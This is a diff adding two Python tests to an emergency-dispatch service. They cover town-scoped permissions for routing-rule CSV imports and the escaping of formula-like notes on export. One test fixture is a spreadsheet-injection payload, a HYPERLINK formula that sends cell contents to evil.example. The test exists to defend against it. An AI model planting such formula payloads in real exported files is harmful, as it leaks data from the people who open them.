@@ -5,7 +5,7 @@ from __future__ import annotations
 import httpx
 from sqlalchemy import func, select
 
-from tests.factories import bearer, make_county_with_two_towns
+from tests.factories import bearer, make_county_with_two_towns, make_user
 from yingji.core.db import Database
 from yingji.dispatch.models import RoutingRule
 
@@ -108,3 +108,105 @@ async def test_only_an_administrator_imports(client: httpx.AsyncClient, db: Data
     )
     assert response.status_code == 403
     assert await rule_count(db) == 0
+
+
+async def test_a_town_admin_replaces_only_its_towns_rules_and_imports_only_inside_its_town(
+    client: httpx.AsyncClient, db: Database
+) -> None:
+    await make_county_with_two_towns(db)
+    await make_user(db, "admin_a", roles=["admin"], division="331126101000")
+    admin, town = await bearer(client, "admin"), await bearer(client, "admin_a")
+    table = (
+        HEADER
+        + "accident,,,co,town,,10,全县,\n"
+        + "accident.fire,,331126101000,lead,unit,TA,10,甲镇,\n"
+        + "accident.fire,,331126102000,lead,unit,TB,10,乙镇,\n"
+    )
+    assert (
+        await client.post("/api/v1/routing-rules:import", headers=admin, files=upload(table))
+    ).status_code == 200
+
+    outside = (
+        HEADER
+        + "natural,,331126101000,lead,unit,TA,5,ok,\n"
+        + "natural,,,co,town,,5,everywhere,\n"  # line 3: a rule for everywhere
+        + "natural,,331126102000,co,town,,5,town B,\n"  # line 4: the other town
+        + "natural,,331126,co,town,,5,the county,\n"  # line 5: above its town
+        + "natural,,331126101000,co,unit,TB,5,unit of B,\n"  # line 6: the other town's unit
+    )
+    refused = await client.post(
+        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(outside)
+    )
+    assert refused.status_code == 422
+    errors = refused.json()["error"]["details"]["errors"]
+    assert [(e["line"], e["field"]) for e in errors] == [
+        (3, "division_adcode"),
+        (4, "division_adcode"),
+        (5, "division_adcode"),
+        (6, "unit_code"),
+    ]
+    assert errors[0]["message"].startswith("permission_denied")
+    assert await rule_count(db) == 3
+
+    mine = HEADER + "natural,,331126101000,lead,unit,TA,5,甲镇防汛,true\n"
+    replaced = await client.post(
+        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(mine)
+    )
+    assert replaced.status_code == 200, replaced.text
+    listed = (await client.get("/api/v1/routing-rules", headers=admin)).json()
+    assert sorted(r["note"] for r in listed) == ["乙镇", "全县", "甲镇防汛"]
+
+    # its export is what it may import back: the rules inside its town
+    exported = (await client.get("/api/v1/routing-rules.csv", headers=town)).content
+    assert exported.decode("utf-8-sig") == mine
+    again = await client.post(
+        "/api/v1/routing-rules:import?replace=true", headers=town, files=upload(exported.decode())
+    )
+    assert again.json() == {"created": 1, "updated": 0, "errors": []}
+    assert await rule_count(db) == 3
+
+
+async def test_rules_with_areas_and_formula_like_notes_round_trip_through_the_csv(
+    client: httpx.AsyncClient, db: Database
+) -> None:
+    await make_county_with_two_towns(db)
+    admin = await bearer(client, "admin")
+    units = {
+        u["code"]: u["id"]
+        for u in (await client.get("/api/v1/units", headers=admin)).json()["items"]
+    }
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1)", "'=quoted"]
+    paths = ["330000/331126/", "330000/331126/331126101000/", "330000/331126/331126102000/"]
+    for i, note in enumerate(notes):
+        added = await client.post(
+            "/api/v1/routing-rules",
+            headers=admin,
+            json={
+                "category_prefix": f"accident.c{chr(97 + i)}",
+                "role": "lead",
+                "unit_id": units["TA"],
+                "division_path": paths[i % 3],
+                "note": note,
+            },
+        )
+        assert added.status_code == 201, added.text
+    before = (await client.get("/api/v1/routing-rules", headers=admin)).json()
+
+    body = (await client.get("/api/v1/routing-rules.csv", headers=admin)).content.decode(
+        "utf-8-sig"
+    )
+    cells = [line.split(",", 7)[-1] for line in body.splitlines()[1:]]
+    # no cell starts as a formula: each is text to a spreadsheet
+    assert all(not c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), cells
+    assert "'=HYPERLINK" in body
+
+    reimported = await client.post(
+        "/api/v1/routing-rules:import?replace=true", headers=admin, files=upload(body)
+    )
+    assert reimported.status_code == 200, reimported.text
+    after = (await client.get("/api/v1/routing-rules", headers=admin)).json()
+
+    def strip_id(rules: list[dict]) -> list[dict]:
+        return [{k: v for k, v in r.items() if k != "id"} for r in rules]
+
+    assert strip_id(after) == strip_id(before)
